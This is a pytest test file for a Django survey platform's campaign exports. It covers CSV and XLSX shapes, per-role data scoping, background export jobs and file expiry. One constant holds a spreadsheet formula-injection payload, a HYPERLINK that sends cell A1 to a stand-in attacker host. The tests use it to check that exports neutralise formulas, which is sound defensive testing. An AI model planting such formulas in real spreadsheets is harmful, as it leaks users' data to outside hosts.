"""Campaign exports: long and wide, CSV and XLSX, streamed, scoped by role, formulas
neutralised. Values expected are the ones stored, worked out by hand."""

from __future__ import annotations

import csv
import datetime
import io
import logging
import zipfile
from decimal import Decimal

import freezegun
import openpyxl
import pytest
from celery.schedules import crontab
from django.core.exceptions import ImproperlyConfigured
from django.core.files.base import ContentFile
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone

from indicators.models import DataElement
from surveys.forms import AnswerValue
from surveys.models import Answer, ExportJob, Response
from surveys.services import response_save_answers
from surveys.services_exports import expire_exports

from ..conftest import PASSWORD
from .test_excel_import import make_xl_campaign

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


def save(campaign, user, response, **values):
    elements = {e.code: e for e in DataElement.objects.filter(version=campaign.framework_version)}
    return response_save_answers(
        response=response,
        values={elements[code]: value for code, value in values.items()},
        user=user,
        expected_version=response.version,
    )


@pytest.fixture
def xl(personas):
    """The Excel test campaign with answers from Enterprise A, Amata (park) and Enterprise C."""
    c = personas.catalogue
    campaign = make_xl_campaign(c)
    responses = Response.objects.filter(campaign=campaign)
    save(
        campaign,
        personas.enterprise_a,
        responses.get(enterprise=personas.ent_a),
        e_recp=AnswerValue(flag=True, raw="yes"),
        e_water=AnswerValue(number=Decimal("1234.5"), raw="1.234,5"),
        e_share=AnswerValue(number=Decimal("12.5"), raw="12,5%"),
        e_note=AnswerValue(text=HYPERLINK, raw=HYPERLINK[:200]),
    )
    save(
        campaign,
        personas.park_manager,
        responses.get(park=c.amata, enterprise__isnull=True),
        p_water=AnswerValue(number=Decimal("50000"), raw="50.000"),
    )
    save(
        campaign,
        personas.other_enterprise,
        responses.get(enterprise=personas.ent_c),
        e_count=AnswerValue(number=Decimal("4"), raw="4"),
    )
    return campaign


def export(client, user, campaign, shape, fmt, park=None, language=None):
    client.login(username=user.username, password=PASSWORD)
    if language:
        client.post(reverse("set_language"), {"language": language, "next": "/"})
    query = {"shape": shape, "format": fmt}
    if park is not None:
        query["park"] = park.pk
    if fmt != "xlsx":
        return client.get(reverse("surveys:excel_export", args=[campaign.pk]), query)
    return xlsx_download(client, reverse("surveys:excel_export", args=[campaign.pk]), query)


def xlsx_download(client, url, query):
    """Request an XLSX export (the job runs inline in eager mode once the request's
    transaction commits), follow the redirect to the job page and download from it; a refused
    request (404) is returned as it is."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(url, query)
    if response.status_code != 302:
        return response
    job = ExportJob.objects.get(pk=int(response.url.rstrip("/").rsplit("/", 1)[1]))
    assert response.url == reverse("surveys:excel_export_job", args=[job.pk])
    page = client.get(response.url)
    download = reverse("surveys:excel_export_download", args=[job.pk])
    assert page.status_code == 200 and download in page.content.decode()
    assert b'http-equiv="refresh"' not in page.content  # done: no more refreshing
    return client.get(download)


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads UTF-8 with a BOM
    return list(csv.reader(io.StringIO(body[1:])))


def xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [[c.value for c in row] for row in ws.iter_rows()]


AMATA = "Khu công nghiệp Amata"


def codes(campaign, enterprise=None) -> str:
    """The report codes column of a response (surveys/codes.py): both forms' codes."""
    r = Response.objects.get(campaign=campaign, park__name_vi=AMATA, enterprise=enterprise)
    forms = ("B4", "B5") if enterprise else ("A4", "A5")
    return " · ".join(f"EZ_{form}_{r.pk}" for form in forms)


def test_long_csv_has_one_row_per_answer_with_the_exact_values(client, personas, xl):
    rows = csv_rows(export(client, personas.park_manager, xl, "long", "csv"))
    assert rows[0] == ["campaign", "period", "park", "enterprise", "tax_code", "data_element",
                       "label", "value", "unit", "raw", "status", "code", "evidence"]  # fmt: skip
    park, ent_a = codes(xl), codes(xl, personas.ent_a)
    assert park.startswith("EZ_A4_") and ent_a.startswith("EZ_B4_")
    assert rows[1:] == [
        ["Excel 2025", "2025", AMATA, "", "", "p_water", "Nước cả KCN", "50000", "m³", "50.000",
         "draft", park, ""],
        ["Excel 2025", "2025", AMATA, "Enterprise A (test)", "0300588569", "e_recp",
         "Áp dụng RECP", "yes", "", "yes", "draft", ent_a, ""],
        ["Excel 2025", "2025", AMATA, "Enterprise A (test)", "0300588569", "e_water",
         "Nước sử dụng", "1234.5", "m³", "1.234,5", "draft", ent_a, ""],
        ["Excel 2025", "2025", AMATA, "Enterprise A (test)", "0300588569", "e_share",
         "Tỷ lệ tái sử dụng", "12.5", "%", "12,5%", "draft", ent_a, ""],
        ["Excel 2025", "2025", AMATA, "Enterprise A (test)", "0300588569", "e_note", "Ghi chú",
         "'" + HYPERLINK, "", "'" + HYPERLINK, "draft", ent_a, ""],
    ]  # fmt: skip


def test_wide_csv_has_one_row_per_respondent_and_a_column_per_element(client, personas, xl):
    rows = csv_rows(export(client, personas.park_manager, xl, "wide", "csv"))
    assert rows[0] == ["campaign", "period", "park", "enterprise", "tax_code", "status",
                       "version", "code", "p_water", "e_recp", "e_count", "e_water", "e_share",
                       "e_iso", "e_audit", "e_note", "e_proof", "evidence"]  # fmt: skip
    by_subject = {row[3]: row for row in rows[1:]}
    assert set(by_subject) == {"", "Enterprise A (test)", "Enterprise B (test)"}
    assert by_subject[""][7:] == [codes(xl), "50000"] + [""] * 9
    assert by_subject["Enterprise A (test)"][4:] == [
        "0300588569", "draft", "2", codes(xl, personas.ent_a), "", "yes", "", "1234.5", "12.5",
        "", "", "'" + HYPERLINK, "", ""
    ]  # fmt: skip
    assert by_subject["Enterprise B (test)"][5:] == [
        "draft", "1", codes(xl, personas.ent_b)] + [""] * 10  # no answers  # fmt: skip


def test_long_xlsx_has_typed_values_and_vietnamese_yes(client, personas, xl):
    rows = xlsx_rows(export(client, personas.park_manager, xl, "long", "xlsx"))
    values = {row[5]: (row[7], row[9]) for row in rows[1:]}
    assert values == {
        "p_water": (50000, "50.000"),
        "e_recp": ("Có", "yes"),
        "e_water": (1234.5, "1.234,5"),
        "e_share": (12.5, "12,5%"),
        "e_note": (HYPERLINK, HYPERLINK),
    }


def test_wide_xlsx_has_labels_then_codes_then_one_row_per_respondent(client, personas, xl):
    rows = xlsx_rows(export(client, personas.park_manager, xl, "wide", "xlsx", language="en"))
    assert rows[0][:8] == ["Campaign", "Period", "Park", "Enterprise", "Tax code", "Status",
                           "Version", "Report codes"]  # fmt: skip
    assert rows[0][8] == "Park water [m³]" and rows[1][8] == "p_water"
    ent_a = next(r for r in rows[2:] if r[3] == "Enterprise A (test)")
    assert ent_a[7:] == [codes(xl, personas.ent_a), None, "Yes", None, 1234.5, 12.5, None, None,
                         HYPERLINK, None, None]  # fmt: skip
    assert len(rows) == 2 + 3  # the park and its two enterprises


def test_a_formula_in_a_text_answer_is_neutralised_in_csv_and_xlsx(client, personas, xl):
    rows = csv_rows(export(client, personas.park_manager, xl, "long", "csv"))
    note = next(r for r in rows if r[5] == "e_note")
    assert note[7] == "'" + HYPERLINK and note[9] == "'" + HYPERLINK
    r = export(client, personas.park_manager, xl, "long", "xlsx")
    data = b"".join(r.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet  # stored as text, never as a formula
    assert 'quotePrefix="1"' in styles
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cell = next(c for c in ws["H"] if c.value == HYPERLINK)
    assert cell.data_type == "s" and cell.quotePrefix


def test_the_park_managers_export_contains_only_its_park(client, personas, xl):
    mine = csv_rows(export(client, personas.park_manager, xl, "long", "csv"))
    assert {row[2] for row in mine[1:]} == {AMATA}
    assert "0900189284" not in {row[4] for row in mine}
    everyone = csv_rows(export(client, personas.ministry, xl, "long", "csv"))
    assert {row[2] for row in everyone[1:]} == {AMATA, "Khu công nghiệp Đình Vũ"}
    assert len(everyone) == len(mine) + 1  # Enterprise C's one answer


def test_an_enterprise_exports_only_its_own_answers(client, personas, xl):
    rows = csv_rows(export(client, personas.enterprise_b, xl, "wide", "csv"))
    assert [row[3] for row in rows[1:]] == ["Enterprise B (test)"]
    rows = csv_rows(export(client, personas.other_enterprise, xl, "long", "csv"))
    assert [(row[4], row[5], row[7]) for row in rows[1:]] == [("0900189284", "e_count", "4")]


def test_another_parks_data_cannot_be_exported(client, personas, xl):
    amata, dinh_vu = personas.catalogue.amata, personas.catalogue.dinh_vu
    assert (
        export(client, personas.other_enterprise, xl, "long", "csv", park=amata).status_code == 404
    )
    assert (
        export(client, personas.park_manager, xl, "long", "xlsx", park=dinh_vu).status_code == 404
    )
    assert export(client, personas.board, xl, "wide", "csv", park=dinh_vu).status_code == 404
    only_dinh_vu = make_xl_campaign(personas.catalogue, parks=[dinh_vu])
    for user in (personas.enterprise_a, personas.park_manager, personas.board):
        assert export(client, user, only_dinh_vu, "long", "csv").status_code == 404
    assert export(client, personas.park_manager, xl, "sideways", "csv").status_code == 404


def test_a_park_filter_within_scope_narrows_the_export(client, personas, xl):
    dinh_vu = personas.catalogue.dinh_vu
    rows = csv_rows(export(client, personas.ministry, xl, "long", "csv", park=dinh_vu))
    assert [(row[2], row[5]) for row in rows[1:]] == [("Khu công nghiệp Đình Vũ", "e_count")]


def test_the_export_reads_in_a_fixed_number_of_queries(
    client, personas, xl, django_assert_max_num_queries
):
    client.login(username=personas.ministry.username, password=PASSWORD)
    url = reverse("surveys:excel_export", args=[xl.pk])
    with django_assert_max_num_queries(12):
        body = b"".join(client.get(url, {"shape": "wide", "format": "csv"}).streaming_content)
    assert body.count(b"\n") == 1 + 5  # header, 2 park responses, 3 enterprise responses


def test_the_csv_export_is_streamed_in_the_language_of_the_request(client, personas, xl):
    r = export(client, personas.park_manager, xl, "long", "csv", language="en")
    rows = csv_rows(r)
    assert {row[2] for row in rows[1:]} == {"Amata City Bien Hoa Industrial Park"}
    assert [row[6] for row in rows if row[5] == "e_water"] == ["Water used"]


def test_rows_beyond_excels_limit_continue_on_a_second_sheet_with_the_header(
    client, personas, xl, monkeypatch
):
    from surveys import interchange

    monkeypatch.setattr(interchange, "EXCEL_MAX_ROWS", 4)  # header + 3 answers a sheet
    response = export(client, personas.park_manager, xl, "long", "xlsx")
    data = b"".join(response.streaming_content)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Câu trả lời", "Câu trả lời (2)"]
    first, second = ([[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets)
    assert len(first) == 4 and len(second) == 1 + 2  # 5 answers: 3 + 2
    assert second[0] == first[0]  # the header repeats
    codes = [row[5] for row in first[1:] + second[1:]]
    assert sorted(codes) == ["e_note", "e_recp", "e_share", "e_water", "p_water"]


# -- Background XLSX exports (ExportJob, surveys.tasks.export_xlsx_task) ---------------------


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


def request_xlsx(client, user, campaign, shape, **query):
    """Log in, ask for an XLSX export and return the response with callbacks run on commit."""
    client.login(username=user.username, password=PASSWORD)
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(
            reverse("surveys:excel_export", args=[campaign.pk]),
            {"shape": shape, "format": "xlsx", **query},
        )


def test_an_xlsx_export_becomes_a_finished_job_whose_file_only_its_requester_downloads(
    client, personas, xl, media_root
):
    response = request_xlsx(client, personas.park_manager, xl, "long")
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response.url == f"/surveys/excel/exports/{job.pk}/"
    assert (job.status, job.shape, job.park, job.language) == ("done", "long", None, "vi")
    assert job.requested_by == personas.park_manager and job.error == ""
    assert job.rows_written == 5  # Amata's park answer and Enterprise A's four
    assert job.finished_at is not None
    stored = media_root / job.file.name
    assert stored.parent == media_root / "exports" and stored.is_file()
    assert len(stored.stem) == 32  # a random name, nothing of the campaign or the user
    download = client.get(f"/surveys/excel/exports/{job.pk}/download/")
    assert download.status_code == 200
    assert download["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert download["Content-Disposition"] == (
        f'attachment; filename="ecopark-2025-campaign{xl.pk}-long.xlsx"'
    )
    rows = xlsx_rows(download)
    assert {row[5]: row[7] for row in rows[1:]} == {
        "p_water": 50000, "e_recp": "Có", "e_water": 1234.5, "e_share": 12.5, "e_note": HYPERLINK
    }  # fmt: skip


def test_a_wide_park_export_job_counts_respondents_and_names_the_park(client, personas, xl):
    amata = personas.catalogue.amata
    request_xlsx(client, personas.ministry, xl, "wide", park=amata.pk)
    job = ExportJob.objects.get()
    assert (job.status, job.park, job.rows_written) == ("done", amata, 3)  # park + 2 enterprises
    download = client.get(reverse("surveys:excel_export_download", args=[job.pk]))
    assert download["Content-Disposition"] == (
        f'attachment; filename="ecopark-2025-campaign{xl.pk}-wide-park{amata.pk}.xlsx"'
    )
    assert len(xlsx_rows(download)) == 2 + 3


def test_nobody_but_the_requester_sees_the_job_page_or_downloads_the_file(client, personas, xl):
    request_xlsx(client, personas.enterprise_a, xl, "long")
    job = ExportJob.objects.get()
    assert job.status == "done"
    page = reverse("surveys:excel_export_job", args=[job.pk])
    download = reverse("surveys:excel_export_download", args=[job.pk])
    for other in (personas.enterprise_b, personas.other_board, personas.ministry):
        client.login(username=other.username, password=PASSWORD)
        assert client.get(page).status_code == 404
        assert client.get(download).status_code == 404
    client.logout()
    assert client.get(download).status_code == 302  # to the login page


def test_a_queued_job_page_refreshes_every_3_seconds_and_has_nothing_to_download(
    client, personas, xl
):
    client.login(username=personas.board.username, password=PASSWORD)
    response = client.post(  # no commit callbacks run: the job stays queued, as with a busy worker
        reverse("surveys:excel_export", args=[xl.pk]), {"shape": "wide", "format": "xlsx"}
    )
    job = ExportJob.objects.get()
    assert job.status == "queued"
    page = client.get(response.url)
    assert b'<meta http-equiv="refresh" content="3">' in page.content
    assert client.get(f"/surveys/excel/exports/{job.pk}/download/").status_code == 404


def test_an_unreachable_broker_marks_the_job_failed_and_offers_the_csv(
    client, personas, xl, monkeypatch
):
    from kombu.exceptions import OperationalError

    from surveys.tasks import export_xlsx_task

    def refuse(*args, **kwargs):
        raise OperationalError("Error 111 connecting to localhost:6379. Connection refused.")

    monkeypatch.setattr(export_xlsx_task, "apply_async", refuse)
    client.login(username=personas.park_manager.username, password=PASSWORD)
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    response = request_xlsx(
        client, personas.park_manager, xl, "long", park=personas.catalogue.amata.pk
    )
    job = ExportJob.objects.get()
    assert job.status == "failed" and job.file.name == "" and job.finished_at is not None
    assert job.language == "en"
    assert job.error == (
        "The export could not be queued: the task queue is unreachable (OperationalError: "
        "Error 111 connecting to localhost:6379. Connection refused.). Download the CSV "
        "instead, or try again later."
    )
    page = client.get(response.url).content.decode()
    assert "Connection refused" in page and "http-equiv" not in page
    csv_link = reverse("surveys:excel_export", args=[xl.pk])
    assert (
        f'href="{csv_link}?shape=long&amp;format=csv&amp;park={personas.catalogue.amata.pk}"'
        in page
    )
    assert client.get(f"/surveys/excel/exports/{job.pk}/download/").status_code == 404


def test_an_error_while_building_the_workbook_marks_the_job_failed_with_it(
    client, personas, xl, monkeypatch
):
    from surveys import interchange

    def broken(**kwargs):
        raise MemoryError("out of memory at row 812000")

    monkeypatch.setattr(interchange, "export_xlsx_file", broken)
    request_xlsx(client, personas.park_manager, xl, "long")
    job = ExportJob.objects.get()
    assert (job.status, job.error) == ("failed", "MemoryError: out of memory at row 812000")
    assert job.rows_written == 0 and job.file.name == ""


# -- Expiry of finished exports (surveys.services_exports.expire_exports) ---------------------

NOW = datetime.datetime(2026, 3, 10, 3, 0, tzinfo=datetime.UTC)


def finished_job(client, user, campaign, *, days_ago: float, shape="long") -> ExportJob:
    """A real XLSX export job of ``user`` (its file on disk), finished ``days_ago`` before NOW."""
    request_xlsx(client, user, campaign, shape)
    job = ExportJob.objects.order_by("-pk").first()
    assert job.status == "done" and job.file.name
    finished = NOW - datetime.timedelta(days=days_ago)
    ExportJob.objects.filter(pk=job.pk).update(  # made before the answers: not reused
        created_at=finished - datetime.timedelta(minutes=1), finished_at=finished
    )
    job.refresh_from_db()
    return job


def test_a_done_export_finished_8_days_ago_is_expired_and_its_file_deleted(
    client, personas, xl, media_root
):
    old = finished_job(client, personas.park_manager, xl, days_ago=8)
    recent = finished_job(client, personas.park_manager, xl, days_ago=6)
    boundary = finished_job(client, personas.park_manager, xl, days_ago=7)  # not older than 7
    running = ExportJob.objects.create(
        campaign=xl,
        requested_by=personas.park_manager,
        shape="wide",
        status=ExportJob.Status.RUNNING,
        finished_at=NOW - datetime.timedelta(days=30),  # never touched, however old
    )
    running.file.save("export.xlsx", ContentFile(b"half-written"))  # as if mid-way
    queued = ExportJob.objects.create(campaign=xl, requested_by=personas.board, shape="long")
    old_path, recent_path = media_root / old.file.name, media_root / recent.file.name
    assert old_path.is_file() and recent_path.is_file()

    assert expire_exports(now=NOW) == 1

    old.refresh_from_db()
    assert (old.status, old.file.name, old.is_finished) == ("expired", "", True)
    assert not old_path.exists()
    assert old.rows_written == 5 and old.finished_at == NOW - datetime.timedelta(days=8)
    statuses = dict(ExportJob.objects.values_list("pk", "status"))
    assert statuses == {
        old.pk: "expired",
        recent.pk: "done",
        boundary.pk: "done",
        running.pk: "running",
        queued.pk: "queued",
    }
    assert recent_path.is_file() and (media_root / boundary.file.name).is_file()
    assert (media_root / running.file.name).read_bytes() == b"half-written"


def test_expiring_twice_expires_nothing_more(client, personas, xl, media_root):
    old = finished_job(client, personas.park_manager, xl, days_ago=8)
    recent = finished_job(client, personas.park_manager, xl, days_ago=6)
    assert expire_exports(now=NOW) == 1
    assert expire_exports(now=NOW) == 0
    assert dict(ExportJob.objects.values_list("pk", "status")) == {
        old.pk: "expired",
        recent.pk: "done",
    }
    assert sorted(p.name for p in (media_root / "exports").iterdir()) == [
        recent.file.name.rsplit("/", 1)[1]
    ]
    # two days later the recent one is 8 days old too
    assert expire_exports(now=NOW + datetime.timedelta(days=2)) == 1
    assert list((media_root / "exports").iterdir()) == []


def test_an_export_whose_file_is_already_gone_still_expires_and_is_logged(
    client, personas, xl, media_root, caplog
):
    job = finished_job(client, personas.park_manager, xl, days_ago=9)
    name = job.file.name
    (media_root / name).unlink()
    with caplog.at_level(logging.WARNING, logger="surveys.services_exports"):
        assert expire_exports(now=NOW) == 1
    job.refresh_from_db()
    assert (job.status, job.file.name) == ("expired", "")
    assert f"Export job {job.pk}: file {name} was already missing" in caplog.messages


def test_a_failed_export_is_expired_too(client, personas, xl):
    failed = ExportJob.objects.create(
        campaign=xl,
        requested_by=personas.park_manager,
        shape="long",
        status=ExportJob.Status.FAILED,
        error="MemoryError: out of memory",
        finished_at=NOW - datetime.timedelta(days=8),
    )
    assert expire_exports(now=NOW) == 1
    failed.refresh_from_db()
    assert (failed.status, failed.error) == ("expired", "MemoryError: out of memory")


def test_the_keep_period_follows_the_setting(client, personas, xl, settings):
    settings.ECOPARK_EXPORT_KEEP_DAYS = 3
    four = finished_job(client, personas.park_manager, xl, days_ago=4)
    two = finished_job(client, personas.park_manager, xl, days_ago=2)
    assert expire_exports(now=NOW) == 1
    assert dict(ExportJob.objects.values_list("pk", "status")) == {
        four.pk: "expired",
        two.pk: "done",
    }
    settings.ECOPARK_EXPORT_KEEP_DAYS = 0
    with pytest.raises(ImproperlyConfigured, match="must be an integer ≥ 1, not 0"):
        expire_exports(now=NOW)


def test_the_daily_task_expires_with_the_current_time(client, personas, xl):
    from surveys.tasks import expire_exports_task

    job = finished_job(client, personas.park_manager, xl, days_ago=8)
    with freezegun.freeze_time(NOW - datetime.timedelta(days=1)):  # then only 7 days old
        assert expire_exports_task.delay().get() == 0
    with freezegun.freeze_time(NOW):
        assert expire_exports_task.delay().get() == 1
    job.refresh_from_db()
    assert job.status == "expired"


def test_beat_runs_the_expiry_daily_at_3(settings):
    entry = settings.CELERY_BEAT_SCHEDULE["exports-expire"]
    assert entry["task"] == "surveys.tasks.expire_exports_task"
    assert entry["schedule"] == crontab(hour=3, minute=0)


def test_an_expired_export_answers_410_and_its_page_offers_the_export_again(client, personas, xl):
    client.login(username=personas.park_manager.username, password=PASSWORD)
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    job = finished_job(client, personas.park_manager, xl, days_ago=8)
    page_url = reverse("surveys:excel_export_job", args=[job.pk])
    download_url = reverse("surveys:excel_export_download", args=[job.pk])
    assert client.get(download_url).status_code == 200  # before the expiry
    assert expire_exports(now=NOW) == 1

    message = "The file of this export was deleted 7 days after it was finished."
    again = f'href="{reverse("surveys:excel_campaign", args=[xl.pk])}#export"'
    page = client.get(page_url)
    body = page.content.decode()
    assert page.status_code == 200
    assert message in body and again in body and "Export again" in body
    assert "http-equiv" not in body  # finished: no more refreshing
    assert download_url not in body
    gone = client.get(download_url)
    assert gone.status_code == 410
    assert message in gone.content.decode() and again in gone.content.decode()

    for other in (personas.enterprise_a, personas.ministry):
        client.login(username=other.username, password=PASSWORD)
        assert client.get(page_url).status_code == 404
        assert client.get(download_url).status_code == 404


def test_a_done_export_whose_file_vanished_answers_410_not_an_error(client, personas, xl):
    client.login(username=personas.park_manager.username, password=PASSWORD)
    job = finished_job(client, personas.park_manager, xl, days_ago=1)
    job.file.storage.delete(job.file.name)  # removed on the server, outside ecopark
    gone = client.get(reverse("surveys:excel_export_download", args=[job.pk]))
    assert gone.status_code == 410
    job.refresh_from_db()
    assert job.status == ExportJob.Status.EXPIRED and not job.file


def test_a_get_never_creates_an_xlsx_export(client, personas, xl):
    """Link prefetchers and crawlers send GETs: 23 of them create no job and no file."""
    client.login(username=personas.park_manager.username, password=PASSWORD)
    url = reverse("surveys:excel_export", args=[xl.pk])
    for _ in range(23):
        reply = client.get(url, {"shape": "long", "format": "xlsx"})
        assert reply.status_code == 405 and reply["Allow"] == "POST"
    assert not ExportJob.objects.exists()


def test_the_same_export_asked_again_returns_the_running_then_the_fresh_job(
    client, personas, xl, media_root
):
    client.login(username=personas.park_manager.username, password=PASSWORD)
    url = reverse("surveys:excel_export", args=[xl.pk])
    queued = client.post(url, {"shape": "long", "format": "xlsx"})  # not run: still queued
    again = client.post(url, {"shape": "long", "format": "xlsx"})
    assert again.url == queued.url and ExportJob.objects.count() == 1
    other = client.post(url, {"shape": "wide", "format": "xlsx"})  # another export
    assert other.url != queued.url and ExportJob.objects.count() == 2
    job = ExportJob.objects.get(shape="long")
    from surveys.tasks import export_xlsx_task

    export_xlsx_task(job.pk)
    job.refresh_from_db()
    assert job.status == "done"
    fresh = client.post(url, {"shape": "long", "format": "xlsx"})
    assert fresh.url == queued.url and ExportJob.objects.count() == 2
    # an answer changes: the next request makes a new workbook
    response = Response.objects.get(campaign=xl, enterprise=personas.ent_a)
    Answer.objects.filter(response=response).update(updated_at=timezone.now())
    with TestCase.captureOnCommitCallbacks(execute=True):
        newer = client.post(url, {"shape": "long", "format": "xlsx"})
    assert newer.url != queued.url and ExportJob.objects.count() == 3
